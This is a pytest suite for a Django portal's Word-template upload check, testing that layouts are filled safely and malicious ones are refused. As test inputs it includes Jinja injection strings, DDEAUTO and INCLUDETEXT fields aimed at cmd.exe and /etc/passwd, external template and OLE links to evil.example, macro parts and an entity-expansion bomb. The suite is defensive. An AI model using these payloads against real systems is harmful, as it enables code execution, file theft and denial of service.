"""An uploaded Word layout is filled with values and runs nothing: not in the portal, not when Word opens it."""

import io
import random
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.db.utils import DatabaseError

from office.documents import word_layouts
from office.documents.actions import add_layout, drop_layout, issue_document, word_file_of
from office.documents.models import IssuedDocument, WordLayout
from office.documents.word_layouts import fill_layout, require_layout
from office.errors import NotAllowed
from office.models import AuditEvent
from tests import factories as make
from tests.office.documents.kinds import NAME
from tests.office.documents.test_word import BLOCKS, JINJA
from tests.word_files import paragraphs_of, word_file, word_layout

SAMPLES = {"unit": "采油一厂", "unit.code": "B1", "member.name": "张三", "text": "全文"}
NUMBERS = {"unit": "甲", "unit.code": "乙", "member.name": "丙", "text": "丁"}
# What other engines, docxtpl's own marks, and arithmetic could do.
EXPRESSIONS = [
    "{{ 7*7 }}",
    "{{ 'a' * 10**9 }}",
    "{{ range(10**9)|list }}",
    "{{ unit|attr('__class__') }}",
    "{{ unit['code'] }}",
    "{{ unit() }}",
    "{{ unit.__class__ }}",
    "{{ member }}",
    "{{ unit if 1 }}",
    '{{ "%c"|format(97) }}',
    "{{ unit ~ unit }}",
    "{{ unit",
    "{{ }}",
    "{{ loop.index }}",
    "{{ caller() }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{x}}{% endraw %}",
    "{%- set x = 1 %}",
    "{% colspan 9999999 %}",
    "{% vm %}",
    "{% hm %}",
]


def changed(word: bytes, part: str, before: str, after: str) -> bytes:
    """Return a Word document in one part of which a text is replaced; the part is added where there is none."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name).decode("latin-1") if name != part else old.read(name).decode()
            if name == part:
                assert before in content
                content = content.replace(before, after, 1)
            new.writestr(name, content.encode("latin-1") if name != part else content.encode())
        if part not in old.namelist():
            new.writestr(part, after)
    return made.getvalue()


def refusal(word: bytes) -> str:
    with pytest.raises(NotAllowed) as refused:
        require_layout(word, SAMPLES)
    assert refused.value.field == "file"
    return str(refused.value)


def test_names_with_and_without_dots_are_filled_in_body_and_header_and_marked_for_nothing():
    layout = word_file("{{unit}}（{{ unit.code }}）", "{{member.name}}同志：", "{{text}}", header="{{unit}}工会")
    require_layout(layout, SAMPLES)
    filled = fill_layout(layout, NUMBERS)
    assert paragraphs_of(filled) == ["甲（乙）", "丙同志：", "丁"]
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        headers = "".join(archive.read(name).decode() for name in archive.namelist() if "header" in name)
    assert "甲工会" in headers


@pytest.mark.parametrize(
    "value", ["<w:p/>", "a & b", '"', "{{unit}}", "{% if 1 %}", "{_{unit}_}", "\0x", *JINJA, *BLOCKS]
)
def test_a_value_is_text_whatever_stands_in_it(value):
    filled = fill_layout(word_file("[{{unit}}]"), {"unit": value})
    shown = value.replace("\0", "")
    assert paragraphs_of(filled)[0] in (f"[{shown}]", "[{{unit}}]")


@pytest.mark.parametrize("attack", [*JINJA, *BLOCKS, *EXPRESSIONS])
def test_whatever_is_no_name_of_a_placeholder_is_refused_in_body_header_and_properties(attack):
    for layout in (word_file(attack), word_file("x", header=attack), word_file("x", title=attack)):
        assert "placeholder" in refusal(layout)


def test_a_placeholder_that_resembles_another_is_named_with_it():
    assert "“menber.name”" in refusal(word_file("{{menber.name}}")) and "“member.name”" in refusal(
        word_file("{{menber.name}}")
    )


@pytest.mark.parametrize(
    "instruction",
    [
        "DDEAUTO c:\\\\windows\\\\cmd.exe",
        'INCLUDETEXT "/etc/passwd"',
        "INCLUDEPICTURE http://x/",
        "LINK Excel.Sheet x",
        "dde x",
        "MACROBUTTON a b",
        "QUOTE {{member.name}}",
    ],
)
def test_fields_that_fetch_or_start_something_are_refused_also_in_pieces(instruction):
    at, begin = "<w:body>", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    whole = f"{begin}<w:r><w:instrText>{instruction}</w:instrText></w:r></w:p>"
    parts = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in instruction)
    simple = f'<w:p><w:fldSimple w:instr="{instruction.replace(chr(34), "&quot;")}"/></w:p>'
    for field in (whole, f"{begin}{parts}</w:p>", simple):
        assert "fields" in refusal(changed(word_file("x"), "word/document.xml", at, at + field))


def test_pages_that_are_counted_by_a_field_are_taken():
    at = "<w:body>"
    numbered = changed(word_file("x"), "word/document.xml", at, f'{at}<w:p><w:fldSimple w:instr="PAGE"/></w:p>')
    require_layout(numbered, SAMPLES)


def test_what_word_would_fetch_from_elsewhere_is_refused_and_a_link_is_not():
    at = "</Relationships>"
    rel = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    rel += 'Target="http://evil.example/x" TargetMode="External"/>'
    for kind in ("attachedTemplate", "image", "oleObject", "frame"):
        layout = changed(word_file("x"), "word/_rels/document.xml.rels", at, rel.format(kind) + at)
        assert "elsewhere" in refusal(layout), kind
    require_layout(changed(word_file("x"), "word/_rels/document.xml.rels", at, rel.format("hyperlink") + at), SAMPLES)


def test_macros_embedded_files_and_entities_are_refused():
    for part in ("word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"):
        assert "macros" in refusal(changed(word_file("x"), part, "", "<x/>"))
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    assert "entities (a DTD)" in refusal(changed(word_file("x"), "customXml/item1.xml", "", bomb))


def renamed(word: bytes, part: str, name: str) -> bytes:
    """Return a Word document in which a part lies under another name, as its relations and its type say."""
    made = io.BytesIO()
    last, new_last = part.rpartition("/")[2].encode(), name.rpartition("/")[2].encode()
    with zipfile.ZipFile(io.BytesIO(word)) as old, zipfile.ZipFile(made, "w") as new:
        for one in old.namelist():
            content = old.read(one)
            if one.endswith(".rels") or one == "[Content_Types].xml":
                content = content.replace(last, new_last)
            new.writestr(
                name if one == part else one.replace(f"{part.rpartition('/')[2]}.rels", f"{new_last.decode()}.rels"),
                content,
            )
        if part == "word/document.xml":
            new.writestr(part, old.read(part))
    return made.getvalue()


@pytest.mark.parametrize(
    ("part", "name"),
    [
        ("word/document.xml", "word/letter.xml"),
        ("word/document.xml", "word/letter.dat"),
        ("word/header1.xml", "word/kopf.xml"),
        ("word/header1.xml", "word/kopf.png"),
        ("docProps/core.xml", "docProps/kern.xml"),
    ],
)
def test_a_text_under_a_name_that_no_check_reads_is_refused(part, name):
    layout = renamed(word_file("{{unit}}", header="{{unit}}"), part, name)
    assert paragraphs_of(fill_layout(layout, NUMBERS)) == ["甲"]
    assert "no Word document" in refusal(layout)


def test_what_is_no_word_document_or_swells_is_refused():
    assert "no Word document" in refusal(b"")
    assert "no Word document" in refusal(b"PK\x03\x04" + bytes(100))
    assert "no Word document" in refusal(changed(word_file("x"), "word/document.xml", "<w:body>", "<w:bodi>"))
    swollen = changed(word_file("x"), "word/media/image1.png", "", " " * (word_layouts.LARGEST_UNPACKED + 1))
    assert "too large when unpacked" in refusal(swollen)
    assert "too long" in refusal(word_file(*["{" * 100] * 5))
    assert "MB" in refusal(bytes(word_layouts.LARGEST + 1))


def damaged_files():
    """Yield Word documents with changed bytes, and with each part left out, emptied, cut off or another XML."""
    good, drawn = word_file("{{unit}} {{member.name}}", "{{text}}", header="{{unit}}"), random.Random(20261128)
    for _try in range(200):
        changed = bytearray(good)
        for _byte in range(drawn.choice((1, 3))):
            changed[drawn.randrange(len(changed))] = drawn.randrange(256)
        yield bytes(changed)
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, content in parts.items():
        for other in (None, b"", content[: len(content) // 2], b"<x/>"):
            made = io.BytesIO()
            with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
                for each, kept in (parts | {name: other}).items():
                    if kept is not None:
                        archive.writestr(each, kept)
            yield made.getvalue()


@pytest.mark.slow
def test_a_damaged_document_is_refused_in_words_and_the_log_says_where(caplog):
    refused = 0
    for word in damaged_files():
        try:
            require_layout(word, SAMPLES)
        except NotAllowed:
            refused += 1
    assert refused > 150
    assert "A Word layout can't be read: " in caplog.text and "/zipfile.py:" in caplog.text


@pytest.fixture
def officer(unit):
    return make.officer(unit)


def issue(unit, officer, name="张三"):
    return issue_document(NAME, unit, {"member.name": name}, by=officer, address="https://portal.example{}".format)


def test_word_files_of_issued_documents_have_the_layout_of_the_nearest_unit(kind, unit, officer):
    below = make.unit("采油二厂", parent=unit)
    document = issue(below, officer)
    assert len(paragraphs_of(word_file_of(document))) == 2
    add_layout(NAME, unit, word_layout("总会 {{member.name}} {{number}}"), by=officer)
    assert paragraphs_of(word_file_of(document)) == [f"总会 张三 {document.full_number}"]
    own = add_layout(NAME, below, word_layout("{{text}}"), by=officer)
    assert paragraphs_of(word_file_of(document))[0].startswith("兹证明张三系我会会员")
    drop_layout(own, by=officer, reason="换版")
    assert paragraphs_of(word_file_of(document))[0].startswith("总会")
    audited = AuditEvent.objects.filter(verb__startswith="document_layout")
    assert list(audited.order_by("id").values_list("verb", flat=True)) == [
        "document_layout.upload",
        "document_layout.upload",
        "document_layout.drop",
    ]


def test_a_layout_is_dropped_once_and_never_changed_or_deleted(kind, unit, officer):
    layout = add_layout(NAME, unit, word_layout(), by=officer)
    drop_layout(layout, by=officer, reason="换版")
    with pytest.raises(NotAllowed):
        drop_layout(layout, by=officer, reason="换版")
    for act in (lambda rows: rows.update(name="x"), lambda rows: rows.delete()):
        with pytest.raises(DatabaseError), transaction.atomic():
            act(WordLayout.objects.filter(pk=layout.pk))


def test_of_a_document_issued_before_values_were_kept_the_word_file_is_the_portals(kind, unit, officer, monkeypatch):
    document = issue(unit, officer)
    add_layout(NAME, unit, word_layout("{{number}}"), by=officer)
    earlier = {key: value for key, value in document.content.items() if key != "values"}
    monkeypatch.setattr(IssuedDocument, "content", earlier)
    assert len(paragraphs_of(word_file_of(document))) == 2


def test_the_file_keeps_what_was_uploaded_and_is_encrypted(kind, unit, officer, stored_files):
    sent = word_file("{{number}} 机密抬头")
    layout = add_layout(NAME, unit, SimpleUploadedFile("../../抬头.docx", sent), by=officer)
    assert layout.name == "抬头.docx" and layout.read() == sent
    assert all(sent[:200] not in path.read_bytes() for path in stored_files.rglob("*") if path.is_file())
